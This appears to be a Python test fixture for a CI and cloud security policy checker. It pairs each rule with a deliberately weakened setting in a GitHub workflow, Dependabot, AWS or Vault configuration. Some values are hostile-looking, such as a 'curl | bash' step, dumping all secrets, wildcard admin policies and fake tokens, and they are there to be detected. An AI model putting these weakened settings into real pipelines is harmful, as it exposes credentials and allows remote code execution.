"""The sound organization with one value made weaker: rule, what is changed, and to what."""

from __future__ import annotations

import datetime as dt
from typing import Any

from portcullis_policy.examples.tokens import pypi_token
from portcullis_policy.examples.workflow_files import CI, changed

from tests.policy.sound_organization.files import DEPENDABOT, RELEASE_FILE
from tests.policy.sound_organization.trust import CONDITION, ISSUER, SUB, trust

EVERYTHING = {"Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}]}
SEMVER = '"v[0-9]+.[0-9]+.[0-9]+"'
SERVICE = "    environment: pypi-release\n    services: {db: {image: 'postgres:17'}}\n"
KNOWN = ("root", "secrets", "codecov")


def ago(days: int) -> str:
    """A date in the past."""
    return (dt.datetime.now(dt.UTC).date() - dt.timedelta(days=days)).isoformat()


def release(rule: str, old: str, new: str) -> tuple[str, tuple[Any, ...], Any]:
    """The release workflow with a part replaced."""
    return (rule, ("release-file", "content"), changed(RELEASE_FILE, (old, new)))


def ci(rule: str, old: str, new: str) -> tuple[str, tuple[Any, ...], Any]:
    """The CI workflow with a part replaced."""
    return (rule, ("ci-file", "content"), changed(CI, (old, new)))


def updates(rule: str, old: str, new: str) -> tuple[str, tuple[Any, ...], Any]:
    """Dependabot's configuration with a part replaced."""
    return (rule, ("dependabot-file", "content"), changed(DEPENDABOT, (old, new)))


def trusted(rule: str, key: str, to: object) -> tuple[str, tuple[Any, ...], Any]:
    """The AWS role with another condition on a claim; None takes it away."""
    claims = {**CONDITION["StringEquals"], f"{ISSUER}:{key}": to}
    kept = {name: value for name, value in claims.items() if value is not None}
    return (rule, ("aws-role", "assumeRolePolicy"), trust({"StringLike": kept}))


FILES: list[tuple[str, tuple[Any, ...], Any]] = [
    release("WF001", "jobs:\n", "jobs: [\n"),
    ("SE014", ("manifest", "content"), "-----BEGIN OPENSSH PRIVATE KEY-----\nabc\n"),
    ("SE014", ("manifest", "content"), "token = 'npm_" + "a1" * 18 + "'"),
    ("SE014", ("repository", "description"), "token dop_v1_" + "a1" * 32),
    release("WF002", "    environment: pypi-release\n", ""),
    release("SE021", "T: '${{ secrets.PYPI_API_TOKEN }}'", "TWINE_PASSWORD: '${{ vars.REGION }}'"),
    release("SE017", "secrets.PYPI_API_TOKEN", "secrets.CODECOV_TOKEN"),
    release("WF003", "      contents: read", "      id-token: write"),
    ci("WF004", "permissions:\n  contents: read\n", ""),
    release("WF004", "permissions: {}", "permissions: write-all"),
    ci("WF004", "contents: read", "contents: write"),
    ci("WF006", '"$TITLE"', '"${{ github.event.issue.title }}"'),
    ci("WF007", f"checkout@{'a1' * 20}", "checkout@v4"),
    ci("WF007", f"checkout@{'a1' * 20}", f"checkout@{'a1' * 6}"),
    ci("WF008", "github.event.pull_request.title", "toJSON(secrets)"),
    release("WF009", "persist-credentials: false", "persist-credentials: true"),
    release("WF010", "- run: uv build", f"- uses: actions/cache@{'c3' * 20}"),
    ci("WF011", "uv run pytest", "curl -s https://x.example | bash"),
    release("WF012", "${{ secrets.PYPI_API_TOKEN }}", "${{ secrets.GITHUB_TOKEN }}"),
    release("WF013", SEMVER, '"v*"'),
    release("WF013", f"    tags: [{SEMVER}]\n", ""),
    release("WF014", "        required: true\n", ""),
    ci("WF015", "runs-on: ubuntu-24.04", "runs-on: self-hosted"),
    ci("WF016", "uv run pytest", "echo ${{ secrets.CODECOV_TOKEN }}"),
    ci("WF017", "[pull_request, push]", "pull_request_target"),
    ci("WF023", "permissions:\n  contents: read", "permissions:\n  packages: write"),
    release("WF024", "persist-credentials: false", "ref: develop"),
    release("WF025", "    environment: pypi-release\n", SERVICE),
    release("WF026", "    needs: [build]\n", "    needs: [build]\n    if: always()\n"),
    ci("WF027", "uv run pytest", 'echo "T=$TITLE" >> "$GITHUB_ENV"'),
    ci("WF018", "persist-credentials: false", "fetch-depth: 0"),
    release("WF020", "environment: pypi-release", "environment: pypi-releases"),
    release("WF021", "run: uv build", "run: uv build ${{ secrets.PYPI_API_TOKEN }}"),
    release("SE010", "secrets.PYPI_API_TOKEN", "vars.NOTHING"),
    updates("DB001", "version: 2", "version: 1"),
    updates("DB002", "github-actions", "docker"),
    updates("DB002", "package-ecosystem: uv", "package-ecosystem: npm"),
    updates(
        "DB005",
        "    cooldown: {default-days: 7}\n",
        "    cooldown: {default-days: 7}\n    open-pull-requests-limit: 0\n",
    ),
    updates(
        "DB006",
        "    cooldown: {default-days: 7}\n",
        "    cooldown: {default-days: 7}\n    insecure-external-code-execution: allow\n",
    ),
    updates("DB003", "    cooldown: {default-days: 7}\n", ""),
    updates(
        "DB004",
        "    directory: /\n",
        "    directory: /\n    groups: {all: {applies-to: security-updates}}\n",
    ),
    ("SE007", (*KNOWN, "changed"), ago(185)),
    ("SE008", (*KNOWN, "changed"), ago(400)),
    ("SE009", ("scan", "updatedAt"), ago(185)),
    ("SE013", (*KNOWN, "source"), "env CODECOV_TOKEN"),
    ("SE011", ("two-secret", "secretName"), "codecov_token"),
    ("SE012", ("token", "value"), pypi_token('[3, "7"]')),
]
TRUST: list[tuple[str, tuple[Any, ...], Any]] = [
    trusted("TR001", "aud", None),
    trusted("TR001", "aud", "*"),
    trusted("TR002", "sub", None),
    trusted("TR002", "sub", "repo:guild/escai:*"),
    trusted("TR002", "sub", "repo:guild/*:environment:pypi-release"),
    trusted("TR002", "sub", "repo:guild/escai:ref:refs/heads/main"),
    trusted("TR002", "sub", [SUB, "repo:*"]),
    ("TR003", ("aws-role-policy", "policy"), EVERYTHING),
    ("TR003", ("aws-policy", "policy"), EVERYTHING),
    ("TR003", ("aws-role", "inlinePolicies", 0, "policy"), EVERYTHING),
    (
        "TR003",
        ("aws-attachment", "policyArn"),
        "arn:aws:iam::aws:policy/AdministratorAccess",
    ),
    trusted("TR010", "sub", "repo:guild/escai:environment:pypi"),
    ("TR010", ("vault-role", "boundClaims", "environment"), "pypi-release, anything"),
    ("TR013", ("aws-role", "maxSessionDuration"), 43200),
    ("TR014", ("archive-key", "policy", "Statement", 0, "Principal"), "*"),
    ("TR015", ("vault-app", "tokenPolicies"), ["ci-escai"]),
    ("TR016", ("vault-login", "oidcDiscoveryUrl"), "https://issuer.example"),
    ("TR011", ("vault-role", "tokenPolicies"), ["ci-escai", "admin"]),
    ("TR004", ("aws-provider", "clientIdLists"), ["sts.amazonaws.com", "guild"]),
    ("TR005", ("vault-role", "boundAudiences"), ...),
    ("TR006", ("vault-role", "boundClaims", "environment"), ...),
    ("TR006", ("vault-role", "boundClaims", "repository"), ...),
    ("TR006", ("vault-role", "boundClaims", "repository"), "guild/*"),
    ("TR006", ("vault-role", "boundClaims"), ...),
    ("TR007", ("vault-role", "tokenPolicies"), ["root"]),
    ("TR007", ("vault-role", "tokenTtl"), 7200),
    ("TR007", ("vault-role", "tokenMaxTtl"), 86400),
    ("TR008", ("vault-policy", "policy"), 'path "*" { capabilities = ["sudo"] }'),
    ("TR008", ("vault-policy", "policy"), 'path "ci/*" { capabilities = ["read"] }'),
    ("TR009", ("subject", "includeClaimKeys"), ["repo", "ref"]),
    ("TR009", ("own-subject",), {"repository": "escai", "includeClaimKeys": ["ref"]}),
    *(
        ("AU001", ("archive-closed", name), False)
        for name in (
            "blockPublicAcls",
            "blockPublicPolicy",
            "ignorePublicAcls",
            "restrictPublicBuckets",
        )
    ),
    ("AU001", ("archive", "acl"), "public-read"),
    ("AU002", ("archive-versioned", "versioningConfiguration", "status"), "Suspended"),
    ("AU003", ("archive-encrypted", "rules"), []),
    ("AU004", ("archive-locked", "rule", "defaultRetention", "mode"), "GOVERNANCE"),
    ("AU004", ("archive-locked", "rule", "defaultRetention", "days"), 3),
    ("AU007", ("archive-lifecycle", "rules", 0, "expiration", "days"), 90),
    (
        "AU008",
        ("aws-role", "inlinePolicies", 0, "policy", "Statement", 0, "Resource"),
        "arn:aws:s3:::guild-*",
    ),
    ("AU006", ("aws-role-policy", "policy", "Statement", 0, "Resource"), "arn:aws:s3:::guild-*"),
    (
        "AU005",
        ("archive-policy", "policy", "Statement", 0, "Principal"),
        "*",
    ),
]
OTHERS: list[tuple[str, tuple[Any, ...], Any]] = [
    ("OR007", ("second-owner", "role"), "member"),
    ("OR008", ("auditors", "baseRole"), "admin"),
    ("OR008", ("auditors", "permissions"), ["write_organization_custom_org_role"]),
    ("OR010", ("audit-team", "roleId"), 8134),
    ("OR010", ("audit-team", "roleId"), 8136),
    ("OR011", ("helpers", "permissions"), ["reopen_issue", "bypass_branch_protection"]),
    ("OR011", ("helpers", "permissions"), ["edit_repo_protections"]),
    ("AC005", ("runners", "allowsPublicRepositories"), True),
    ("SE014", ("organization-hook", "configuration", "url"), "https://ci:pw@x.example/hook"),
    ("RE005", ("organization-hook", "configuration", "secret"), ...),
    ("RE006", ("organization-hook", "configuration", "url"), "http://x.example"),
    ("RE008", ("outsider", "permission"), "admin"),
    ("RE010", ("outsider", "permission"), "push"),
    ("RE010", ("people", "users", 0, "permission"), "maintain"),
    ("RE009", ("people", "teams", 0, "permission"), "admin"),
    ("RE001", ("two-alerts", "enabled"), False),
    ("RE002", ("two-updates", "enabled"), False),
    ("RE011", ("two-secret", "repository"), "old"),
    ("RE013", ("owners", "file"), "OWNERS"),
    ("BR013", ("main", "rules", "requiredLinearHistory"), False),
    ("RS003", ("two-main", "enforcement"), "evaluate"),
    ("EN001", ("two-first", "reviewers"), []),
    ("EN006", ("two-tags", "tagPattern"), "v*"),
    ("EN015", ("releasers-members", "members"), [{"username": "ana", "role": "member"}]),
    ("EN010", ("two-docs", "environment"), "npm_release"),
    ("EN011", ("two-gate", "reviewers"), [{"teams": [11, 12]}]),
    ("ST001", ("two-docs",), {"repository": "two", "environment": "npm-release"}),
    ("SE001", ("dependabot-secret", "secretName"), "GITHUB_READ"),
    ("SE003", ("two-secret", "secretName"), "NPM_TOKEN"),
]
WEAKER_BESIDE = [*FILES, *TRUST, *OTHERS]
